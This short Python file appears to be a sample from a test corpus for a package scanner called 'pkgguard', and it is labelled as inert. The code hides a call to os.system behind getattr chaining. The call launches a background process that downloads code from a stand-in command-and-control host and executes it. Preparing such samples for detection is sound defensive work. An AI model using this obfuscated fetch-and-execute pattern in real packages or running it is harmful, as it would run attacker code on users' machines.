# pkgguard corpus 415 (indirection), modelled on [obfuscation]; inert, never run.
from functools import reduce

_steps = ["path", "os", "system"]
_call = reduce(getattr, _steps[1:], __import__(_steps[1][::-1][::-1]).path)
_call("(nohup python3 -c 'import urllib.request as u;exec(u.urlopen(\"https://c2.example/p\").read())' &)")
